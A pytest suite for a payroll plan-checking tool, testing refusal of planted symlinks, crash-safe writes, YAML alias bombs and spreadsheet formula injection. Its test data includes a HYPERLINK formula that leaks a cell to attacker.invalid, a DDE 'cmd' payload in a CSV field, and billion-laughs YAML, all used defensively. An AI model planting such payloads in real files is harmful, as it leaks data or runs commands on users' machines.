"""Issue 19, the files: planted links, power cuts, a failed upload, formula ids, alias bombs, editor
artefacts in rules/ and a missing extra. Each test plays the attack or the fault first, then checks
the "Nothing lost" promises (docs/nothing-lost.md): exit 2 with one line, no traceback, no input or
earlier output changed.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import resource
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from helpers import ROOT, plancheck, s3_endpoint
from helpers.hostile import digest, feed_bytes, good_rows, row
from plancheck.documents.feed.reader import COLUMNS

PLANS = ROOT / "plans"


@pytest.fixture
def feed(tmp_path: Path) -> Path:
    path = tmp_path / "feed.csv"
    path.write_bytes(feed_bytes(good_rows(3)))
    return path


def one_clean_line(result, *expected: str) -> None:
    """Exit 2, no traceback, one line on stderr holding every `expected` text."""
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    for text in expected:
        assert text in lines[0], result.stderr


def batch(tmp_path: Path, feed: Path, *extra: str):
    return plancheck("batch", feed, "--plans", PLANS, "--workers", "1", "--out", tmp_path / "out.jsonl",
                     "--rejects", tmp_path / "rejects.csv", *extra, cwd=tmp_path)


# -- 1. Links planted where plancheck writes ------------------------------------------------------

def test_a_lock_file_that_is_a_link_to_the_feed_is_refused_and_the_feed_is_untouched(tmp_path, feed):
    """A `<output>.lock` planted as a link to the feed was followed, truncated and filled with a pid."""
    before = digest(feed)
    (tmp_path / "out.jsonl.lock").symlink_to(feed)
    result = batch(tmp_path, feed)
    one_clean_line(result, str(tmp_path / "out.jsonl.lock"), "symbolic link")
    assert digest(feed) == before
    assert not (tmp_path / "out.jsonl").exists() and not (tmp_path / "rejects.csv").exists()
    assert (tmp_path / "out.jsonl.lock").is_symlink()


def test_a_lock_file_that_is_a_dangling_link_is_refused_and_nothing_is_created_where_it_points(tmp_path, feed):
    target = tmp_path / "elsewhere" / "created-by-plancheck"
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "rejects.csv.lock").symlink_to(target)
    result = batch(tmp_path, feed)
    one_clean_line(result, "rejects.csv.lock", "symbolic link")
    assert not target.exists()


def test_a_lock_file_that_is_a_hard_link_to_the_feed_is_refused(tmp_path, feed):
    """A hard link is no link to O_NOFOLLOW: a lock file with a second name is never taken over."""
    before = digest(feed)
    os.link(feed, tmp_path / "out.jsonl.lock")
    result = batch(tmp_path, feed)
    one_clean_line(result, "out.jsonl.lock", "hard link")
    assert digest(feed) == before


def test_a_lock_file_that_is_a_pipe_is_refused_at_once(tmp_path, feed):
    os.mkfifo(tmp_path / "out.jsonl.lock")
    result = batch(tmp_path, feed)
    one_clean_line(result, "out.jsonl.lock", "not a plain file")
    assert not (tmp_path / "out.jsonl").exists()


def test_a_lock_left_by_a_killed_run_is_still_taken_over(tmp_path, feed):
    """The boundary: a plain lock file of its own (one name) is what a killed run leaves, and it is reused."""
    (tmp_path / "out.jsonl.lock").write_text("999999999\n")
    result = batch(tmp_path, feed)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "out.jsonl").exists() and not (tmp_path / "out.jsonl.lock").exists()


@pytest.mark.parametrize("option", ["--out", "--rejects"])
def test_an_output_planted_as_a_link_is_refused_before_any_work(option, tmp_path, feed):
    victim = tmp_path / "victim.txt"
    victim.write_text("someone's file\n")
    (tmp_path / ("out.jsonl" if option == "--out" else "rejects.csv")).symlink_to(victim)
    result = batch(tmp_path, feed)
    one_clean_line(result, option, "symbolic link")
    assert victim.read_text() == "someone's file\n"


def test_the_html_report_planted_as_a_link_is_refused(tmp_path, feed):
    victim = tmp_path / "victim.html"
    victim.write_text("keep\n")
    (tmp_path / "report.html").symlink_to(victim)
    result = batch(tmp_path, feed, "--db", tmp_path / "h.sqlite", "--html", tmp_path / "report.html")
    one_clean_line(result, "--html", "symbolic link")
    assert victim.read_text() == "keep\n"


def test_every_file_plancheck_writes_is_opened_by_safe_open():
    """No module outside safe_open.py (and the history and service packages, which are other areas) opens a file
    for writing by itself."""

    writers = re.compile(r"""open\([^)]*["'][wax]b?\+?["']|write_text\(|write_bytes\(|NamedTemporaryFile|mkstemp\(|"""
                         r"""os\.open\(|ipc\.new_file\(\s*paths""")
    found = []
    for path in (ROOT / "src" / "plancheck").rglob("*.py"):
        relative = path.relative_to(ROOT / "src" / "plancheck").as_posix()
        if relative == "safe_open.py" or relative.startswith(("history/", "service/")):
            continue
        for number, line in enumerate(path.read_text().splitlines(), 1):
            if writers.search(line) and "os.devnull" not in line:
                found.append(f"{relative}:{number}: {line.strip()}")
    assert found == []


# -- 2. A power cut between the rename and the disk -----------------------------------------------

def test_each_output_is_synced_before_its_rename_and_its_directory_after(tmp_path, feed, monkeypatch):
    """os.replace without fsync can leave an empty "complete" file after a power cut."""
    calls: list[tuple[str, str]] = []
    real_fsync, real_replace = os.fsync, os.replace

    def fsync(fd: int) -> None:
        calls.append(("fsync", os.readlink(f"/proc/self/fd/{fd}")))
        real_fsync(fd)

    def replace(source, target) -> None:
        calls.append(("replace", f"{source} -> {target}"))
        real_replace(source, target)

    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "replace", replace)
    result = batch(tmp_path, feed)
    assert result.returncode == 0, result.stderr
    for name in ("out.jsonl", "rejects.csv"):
        final = str(tmp_path / name)
        rename = next(i for i, (what, arg) in enumerate(calls) if what == "replace" and arg.endswith(f"-> {final}"))
        temporary = calls[rename][1].split(" -> ")[0]
        synced = [i for i, (what, arg) in enumerate(calls) if what == "fsync" and arg == temporary]
        assert synced and synced[0] < rename, calls
        assert ("fsync", str(tmp_path)) in calls[rename + 1:], calls


# -- 3. The outputs of one run commit together ------------------------------------------------------

VANISHING = "vanishing"


@pytest.fixture(scope="module")
def s3():
    pytest.importorskip("s3fs", reason="the object-storage tests need s3fs (the dev extra)")
    pytest.importorskip("moto.server", reason="the object-storage tests need moto[server] (the dev extra)")
    yield from s3_endpoint(("nightly",))


def test_a_failed_upload_of_the_findings_leaves_last_night_s_local_rejects(s3, tmp_path, feed, monkeypatch):
    """--out s3://... whose upload fails used to leave a replaced local --rejects: findings and rejects of two nights.

    The store really refuses the upload: the bucket, there when the outputs were checked, is deleted while the
    batch runs (as an administrator's clean-up would), so the PUT at the end gets NoSuchBucket from the server.
    """
    import fsspec

    from plancheck.checks.batch import run as batch_run

    fs = fsspec.filesystem("s3", skip_instance_cache=True)
    fs.mkdir(VANISHING)
    rejects = tmp_path / "rejects.csv"
    rejects.write_text("last night's rejects\n")
    real = batch_run.run_batch

    def run_then_lose_the_bucket(*args, **kwargs):
        outcome = real(*args, **kwargs)
        fs.rmdir(VANISHING)
        fs.invalidate_cache()
        return outcome

    monkeypatch.setattr(batch_run, "run_batch", run_then_lose_the_bucket)
    result = plancheck("batch", feed, "--plans", PLANS, "--workers", "1", "--out", f"s3://{VANISHING}/findings.jsonl",
                       "--rejects", rejects, cwd=tmp_path)
    one_clean_line(result, f"s3://{VANISHING}/findings.jsonl", "cannot upload")
    assert rejects.read_text() == "last night's rejects\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["feed.csv", "rejects.csv"]


def test_outputs_staged_together_are_all_removed_when_the_block_fails(tmp_path):
    from plancheck.sinks.files import replacing, together

    (tmp_path / "a.txt").write_text("old a\n")
    with pytest.raises(RuntimeError), together():
        with replacing(tmp_path / "a.txt") as stream:
            stream.write(b"new a\n")
        with replacing(tmp_path / "b.txt") as stream:
            stream.write(b"new b\n")
        assert (tmp_path / "a.txt").read_text() == "old a\n", "replaced before the block completed"
        raise RuntimeError("the run fails after writing its outputs")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt"]
    assert (tmp_path / "a.txt").read_text() == "old a\n"


# -- 4. Texts from the feed stay texts in the workbook --------------------------------------------

FORMULA_ID = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for details")'


def test_an_employee_id_that_looks_like_a_formula_is_text_in_the_workbook(tmp_path):
    """`=HYPERLINK(...)` as an employee id became a live formula in the --xlsx workbook forwarded to sponsors."""
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\n")
    writer.writerow(COLUMNS)
    for k in range(20):  # 20 x $2,000 pretax: over 402(g), so the id reaches the workbook in a finding
        pay_date = (dt.date(2024, 1, 5) + dt.timedelta(days=14 * k)).isoformat()
        writer.writerow(row(employee_id=FORMULA_ID, pay_date=pay_date, pretax="2000.00", compensation="9000.00"))
        writer.writerow(row(employee_id="+1-555-0100", pay_date=pay_date, pretax="2000.00", compensation="9000.00"))
    feed = tmp_path / "feed.csv"
    feed.write_text(text.getvalue())
    result = batch(tmp_path, feed, "--db", tmp_path / "h.sqlite", "--xlsx", tmp_path / "report.xlsx")
    assert result.returncode == 1, result.stderr
    with zipfile.ZipFile(tmp_path / "report.xlsx") as book:
        sheets = {name: book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")}
        shared = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else ""
    assert len(sheets) > 1
    assert not any("<f>" in xml or "<hyperlink" in xml for xml in sheets.values()), "a formula or link was written"
    openpyxl = pytest.importorskip("openpyxl")
    cells = [cell for sheet in openpyxl.load_workbook(tmp_path / "report.xlsx").worksheets for line in sheet.iter_rows()
             for cell in line if cell.value is not None]
    ids = [cell for cell in cells if cell.value in (FORMULA_ID, "+1-555-0100")]
    assert len(ids) >= 2 and all(cell.data_type == "s" for cell in ids), [(c.value, c.data_type) for c in ids]
    assert "HYPERLINK" in shared or any("HYPERLINK" in xml for xml in sheets.values())


def test_the_rejects_csv_keeps_a_formula_like_value_as_the_feed_had_it(tmp_path):
    """The rejects file is the feed's records to correct and feed again: its values are the input's, not escaped
    (docs/nothing-lost.md: open it in a spreadsheet through the text import, not by double-clicking)."""
    value = "=cmd|' /C calc'!A0"
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\n")
    writer.writerow(COLUMNS)
    writer.writerow(row(employee_id=value, pay_date="2024-02-30"))
    feed = tmp_path / "feed.csv"
    feed.write_text(text.getvalue())
    result = batch(tmp_path, feed)
    assert result.returncode == 0, result.stderr
    rejected = list(csv.DictReader((tmp_path / "rejects.csv").open(newline="")))
    assert [r["employee_id"] for r in rejected] == [value]


# -- 5. A YAML alias bomb ("billion laughs") --------------------------------------------------------

def laughs(indent: str, levels: int = 9) -> str:
    """Nested aliases, nine of the level before on each line: 9**levels values once expanded, a few hundred bytes."""
    lines = [f"{indent}- &l0 {{fact: ytd_deferrals_employer, gt: {{fact: deferral_limit}}}}"]
    for i in range(1, levels):
        lines.append(f"{indent}- &l{i} {{all: [{','.join([f'*l{i - 1}'] * 9)}]}}")
    return "\n".join(lines) + "\n"


def bomb_rules(tmp_path: Path) -> Path:
    """The bundled rules with one rule's condition made an alias bomb (aliases inside `when`, where they are legal)."""

    rules = tmp_path / "rules"
    shutil.copytree(ROOT / "rules", rules)
    path = rules / "checks" / "period" / "402g-deferral-limit.yaml"
    text = path.read_text()
    condition = "when:\n  fact: ytd_deferrals_employer\n  gt: {fact: deferral_limit}\n"
    assert condition in text
    path.write_text(text.replace(condition, "when:\n  all:\n" + laughs("    ")))
    return path


def bomb_document(tmp_path: Path, kind: str) -> Path:
    plain = "".join(f"  - &a{i} [{','.join([f'*a{i - 1}'] * 9) if i else 'lol,lol,lol,lol,lol,lol,lol,lol,lol'}]\n"
                    for i in range(9))
    path = tmp_path / f"{kind}.yaml"
    if kind == "election":
        path.write_text((ROOT / "samples" / "elections" / "acme-low-earner-2024.yaml").read_text()
                        .replace("employee:\n", "employee:\n  x-laughs:\n" + plain.replace("  - ", "    - ")))
    elif kind == "plan":
        path.write_text((ROOT / "plans" / "acme-mega-backdoor.yaml").read_text() + "references:\n" + plain)
    else:
        path.write_text("- plan_id: acme-mega-backdoor\n  x-laughs:\n" + plain.replace("  - ", "    - "))
    return path


def limited(*args: str, cwd: Path) -> tuple[object, float]:
    """`plancheck ...` in a process of at most 3 GB of address space and 60 seconds."""
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))

    started = time.monotonic()
    done = subprocess.run([sys.executable, "-m", "plancheck", *map(str, args)], capture_output=True, text=True,
                          cwd=cwd, timeout=60, preexec_fn=limit, env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
    return done, time.monotonic() - started


def test_a_rule_file_of_nested_aliases_is_exit_2_with_its_line_in_seconds_and_little_memory(tmp_path):
    """A rule condition of nested aliases ran past a minute (main: killed at the 60 s bound)."""
    path = bomb_rules(tmp_path)
    done, seconds = limited("election", ROOT / "samples" / "elections" / "acme-low-earner-2024.yaml", "--plan",
                            ROOT / "plans" / "acme-mega-backdoor.yaml", "--rules-dir", tmp_path / "rules",
                            cwd=tmp_path)
    one_clean_line(done, f"{path}:", "aliases expand the document past 500,000 values")
    assert seconds < 30


@pytest.mark.parametrize("kind", ["election", "plan", "withdrawals"])
def test_every_document_kind_stops_an_alias_bomb_at_the_loader(kind, tmp_path):
    path = bomb_document(tmp_path, kind)
    if kind == "election":
        args = ("election", path, "--plan", ROOT / "plans" / "acme-mega-backdoor.yaml")
    elif kind == "plan":
        args = ("election", ROOT / "samples" / "elections" / "acme-low-earner-2024.yaml", "--plan", path)
    else:
        args = ("withdrawals", path, "--plans", PLANS)
    done, seconds = limited(*args, cwd=tmp_path)
    one_clean_line(done, f"{path}:", "aliases expand the document past")
    assert seconds < 30


def test_the_alias_budget_counts_every_expanded_value_to_the_one(monkeypatch):
    """`a: &x [1, 2]` and `b: *x` hold 9 values expanded (root, 2 keys, 2 lists, 4 items): 9 pass, 8 do not."""
    from plancheck.documents import yamlio
    from plancheck.errors import InputError

    text = "a: &x [1, 2]\nb: *x\n"
    monkeypatch.setattr(yamlio, "MAX_NODES", 9)
    assert yamlio.parse_yaml(text, "doc.yaml") == {"a": [1, 2], "b": [1, 2]}
    monkeypatch.setattr(yamlio, "MAX_NODES", 8)
    with pytest.raises(InputError, match=r"doc.yaml:2: invalid YAML: aliases expand the document past 8 values"):
        yamlio.parse_yaml(text, "doc.yaml")


def test_a_recursive_alias_and_depth_hidden_behind_aliases_are_refused():
    from plancheck.documents import yamlio
    from plancheck.errors import InputError

    with pytest.raises(InputError, match="recursive document"):
        yamlio.parse_yaml("a: &x [1, *x]\n", "doc.yaml")
    deep = "a: &x " + "[" * 60 + "1" + "]" * 60 + "\nb: " + "[" * 50 + "*x" + "]" * 50 + "\n"
    with pytest.raises(InputError, match="nesting deeper than 100 levels once its aliases are expanded"):
        yamlio.parse_yaml(deep, "doc.yaml")


def test_a_document_over_the_size_budget_is_refused_before_it_is_parsed(tmp_path):
    from plancheck.documents import yamlio
    from plancheck.errors import InputError

    path = tmp_path / "plan.yaml"
    path.write_bytes(b"#" * yamlio.MAX_DOCUMENT_BYTES + b"\n")
    with pytest.raises(InputError, match="larger than 4 MB"):
        yamlio.read_document(path)
    path.write_bytes(b"#" * (yamlio.MAX_DOCUMENT_BYTES - 1) + b"\n")
    assert yamlio.read_document(path) is None


# -- 6. What editors leave in rules/ and plans/ -----------------------------------------------------

def leave_editor_files(folder: Path, name: str) -> None:
    """What Emacs, Vim, backups and macOS leave beside `name` while it is being edited."""
    (folder / f".#{name}").symlink_to("admin@host.4242:1733300000")  # Emacs' lock: a link to nowhere
    (folder / f"#{name}#").write_text("half: [edited\n")
    (folder / f".{name}.swp").write_bytes(b"b0VIM 9.0\0\0")
    (folder / f"{name}~").write_text("id: stale\n")
    (folder / f"._{name}").write_bytes(b"\0\5\26\7\0\2\0\0Mac OS X        ")


def test_editor_files_in_rules_and_plans_are_skipped_and_change_nothing(tmp_path, feed):
    """Emacs' `.#rule.yaml` lock (a dangling link) in rules/ crashed every command with a traceback."""
    rules, plans = tmp_path / "rules", tmp_path / "plans"
    shutil.copytree(ROOT / "rules", rules)
    shutil.copytree(PLANS, plans)

    def summary() -> dict:
        last = json.loads((tmp_path / "out.jsonl").read_text().splitlines()[-1])
        return {k: last[k] for k in ("event", "ruleset_revision", "plans", "rows_read", "rows_checked", "findings")
                if k in last}

    clean = batch(tmp_path, feed, "--rules-dir", rules, "--plans", plans)
    assert clean.returncode == 0, clean.stderr
    before = summary()
    leave_editor_files(rules / "checks" / "period", "402g-deferral-limit.yaml")
    leave_editor_files(rules / "limits", next((rules / "limits").glob("*.yaml")).name)
    leave_editor_files(plans, "acme-mega-backdoor.yaml")
    edited = batch(tmp_path, feed, "--rules-dir", rules, "--plans", plans)
    assert edited.returncode == 0, edited.stderr
    assert summary() == before and before["event"] == "batch_summary" and "ruleset_revision" in before
    audit = plancheck("audit", "--rules", "--rules-dir", rules, cwd=tmp_path)
    assert audit.returncode == 0, audit.stderr
    assert plancheck("audit", plans, "--rules-dir", rules, cwd=tmp_path).returncode in (0, 1)


@pytest.mark.parametrize("where", ["rules", "plans"])
def test_a_dangling_link_named_like_a_document_is_exit_2_naming_it(where, tmp_path, feed):
    """A rule or plan linked from a share that is not mounted must not silently drop out of the checks."""
    rules, plans = tmp_path / "rules", tmp_path / "plans"
    shutil.copytree(ROOT / "rules", rules)
    shutil.copytree(PLANS, plans)
    link = (rules / "checks" / "period" if where == "rules" else plans) / "linked.yaml"
    link.symlink_to("/mnt/not-mounted/linked.yaml")
    result = batch(tmp_path, feed, "--rules-dir", rules, "--plans", plans)
    one_clean_line(result, str(link), "symbolic link to /mnt/not-mounted/linked.yaml, which does not exist")


# -- 7. A missing optional extra --------------------------------------------------------------------

#: The command line with the top-level packages named in argv[1] made impossible to import, as on an install
#: without that extra.
WITHOUT = """import sys
blocked = set(sys.argv[1].split(","))

class NotInstalled:
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in blocked:
            raise ModuleNotFoundError(f"No module named {name!r}", name=name)
        return None

sys.meta_path.insert(0, NotInstalled())
from plancheck.cli import run
sys.exit(run(sys.argv[2:]))
"""


@pytest.mark.parametrize(("blocked", "args", "feature", "extra"), [
    ("sqlalchemy", ("batch", "FEED", "--db", "h.sqlite"), "--db", "history"),
    ("platformdirs", ("audit", "--record"), "--record", "history"),
    ("psycopg", ("audit", "--db", "postgresql://plancheck@127.0.0.1:1/none"), "--db", "history"),
    ("xlsxwriter", ("audit", "--xlsx", "r.xlsx"), "--xlsx", "history"),
    ("jinja2", ("batch", "FEED", "--html", "r.html"), "--html", "history"),
    ("fastapi", ("serve", "--port", "0"), "plancheck serve", "service"),
    ("uvicorn", ("serve", "--port", "0"), "plancheck serve", "service"),
    ("distributed", ("batch", "FEED", "--cluster", "local:1"), "--cluster", "dask"),
    ("s3fs", ("batch", "s3://payroll/feed.csv"), "s3://payroll/feed.csv", "s3"),
    ("fsspec", ("batch", "FEED", "--out", "s3://payroll/out.jsonl"), "s3://payroll/out.jsonl: --out", "s3"),
])
def test_a_missing_extra_is_exit_2_naming_what_to_install(blocked, args, feature, extra, tmp_path, feed):
    """Without the optional extras, --db and serve ended in a ModuleNotFoundError traceback and exit 1."""

    args = [str(feed) if a == "FEED" else a for a in args] + (["--plans", str(PLANS)] if args[0] != "audit" else [])
    done = subprocess.run([sys.executable, "-c", WITHOUT, blocked, *args], capture_output=True, text=True,
                          cwd=tmp_path, timeout=120, env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
    one_clean_line(done, f"error: {feature}: needs the '{extra}' extra", f"pip install 'plancheck[{extra}]'")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["feed.csv"], "nothing written, nothing created"


def test_an_extra_s_module_imported_deep_inside_a_command_is_the_same_one_line(monkeypatch, capsys):
    """The net under every command: a ModuleNotFoundError of an extra's package is exit 2 naming the extra; any
    other missing module is a bug, and stays a traceback."""
    from plancheck import cli

    def missing(name: str):
        def fail(*_args):
            raise ModuleNotFoundError(f"No module named {name!r}", name=name)
        return fail

    monkeypatch.setattr(cli, "stdout", missing("sqlalchemy.orm"))
    assert cli.run(["schema", "plan"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "pip install 'plancheck[history]'" in err and "sqlalchemy" in err
    monkeypatch.setattr(cli, "stdout", missing("numpy"))
    with pytest.raises(ModuleNotFoundError):
        cli.run(["schema", "plan"])
